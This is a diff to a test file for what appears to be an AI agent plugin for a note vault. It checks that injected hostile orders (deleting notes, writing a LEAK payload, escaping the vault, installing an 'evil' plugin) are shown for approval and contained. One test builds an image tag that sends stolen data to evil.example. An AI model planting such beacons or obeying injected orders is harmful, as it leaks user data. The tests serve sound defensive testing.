@@ -16,6 +16,7 @@ import { serverIdentity, type StdioServer } from '#model/mcp-server';
 import type { Approval } from '#model/interaction';
 import type { Mode, Settings } from '#model/settings';
 import { SETTINGS_VERSION } from '#model/settings-validation';
+import { liveTexts } from '#tests/builders/live-texts';
 import { temporaryFolder } from '#tests/builders/temporary-folder';
 import { FakeSmartHole } from '#workbench/smarthole/fake-smarthole';
 import { openStage, PLUGIN, recordedOf, until, visibleFilesIn, writeFileIn } from '../driver';
@@ -200,8 +201,6 @@ const TITLES_OF_READING = [
 ];
 const TITLES_OF_CHANGES = [
   'Allow this change to AGENTS.md?',
-  'Allow this change to Shopping.md?',
-  'Allow this change to Ideas.md?',
   'Create Page.html?',
   'Delete Shopping.md?',
   'Delete AGENTS.md?',
@@ -226,7 +225,7 @@ describe.each<Mode>(['read-only', 'review', 'apply'])(
       smartHole.say(
         orders(
           ['delete', { path: 'Shopping.md' }],
-          ['write_file', { path: 'Voice.md', content: LEAK }],
+          ['write_file', { path: 'Voice.html', content: LEAK }],
         ),
       );
       await until(() => recordedOf(stage.vault, 'turn-start').length > 1, 'the spoken turn');
@@ -262,7 +261,7 @@ describe.each<Mode>(['read-only', 'review', 'apply'])(
           expect(shown).toMatch(/^http:\/\/(?:page|[\w.]*evil)\.example\//m);
         if (title.startsWith('Let')) expect(shown).toContain(attack.taken);
       }
-      expect(spoken.every(({ title }) => /Shopping\.md|Voice\.md/.test(title))).toBe(true);
+      expect(spoken.every(({ title }) => /Shopping\.md|Voice\.html/.test(title))).toBe(true);
 
       // Nothing left but the page that the user named, and two pages that a search had found.
       expect(thief.asked).toEqual([]);
@@ -290,7 +289,8 @@ describe.each<Mode>(['read-only', 'review', 'apply'])(
 
       // Nothing was deleted or changed, besides a harmless new note.
       const { 'Spam.md': spam, ...files } = visibleFilesIn(stage.vault);
-      expect(files).toEqual(FILES);
+      expect(liveTexts(files)).toEqual(FILES);
+      expect(Object.values(files).join()).not.toMatch(/evil\.example\/\?|fetch\(/);
       expect(spam === undefined).toBe(mode === 'read-only');
       expect(existsSync(path.join(stage.vault, '../Escaped.md'))).toBe(false);
       expect(existsSync(path.join(stage.vault, '.obsidian/plugins/evil'))).toBe(false);
@@ -302,20 +302,16 @@ describe.each<Mode>(['read-only', 'review', 'apply'])(
 test('an approved step of an attack does exactly what was shown, and nothing else', async () => {
   await using attack = await openAttack('apply');
   const { stage, headless } = attack;
-  await headless.send('send', { text: orders(...VAULT_ORDERS.slice(8, 9)) });
+  await headless.send('send', { text: orders(...VAULT_ORDERS.slice(9, 10)) });
   const approvals = (await headless.settled()).interactions.map(
     ({ interaction }) => interaction as Approval,
   );
-  const approval = approvals.find(({ title }) => title === 'Allow this change to Ideas.md?');
-  expect(approval?.changes).toEqual([
-    { path: 'Ideas.md', before: FILES['Ideas.md'], after: `${FILES['Ideas.md']}\n${LEAK}\n` },
-  ]);
+  const approval = approvals.find(({ title }) => title === 'Create Page.html?');
+  const after = `<img src="http://evil.example/?${STOLEN}">`;
+  expect(approval?.changes).toEqual([{ path: 'Page.html', before: null, after }]);
   await headless.send('approve', { approval: approval?.id, choice: 'allow-once' });
   await denyAll(headless);
-  expect(visibleFilesIn(stage.vault)).toEqual({
-    ...FILES,
-    'Ideas.md': approval?.changes?.[0]?.after,
-  });
+  expect(visibleFilesIn(stage.vault)).toEqual({ ...FILES, 'Page.html': after });
 });
 
 test('a hostile synced data file redirects neither requests nor the API key', async () => {
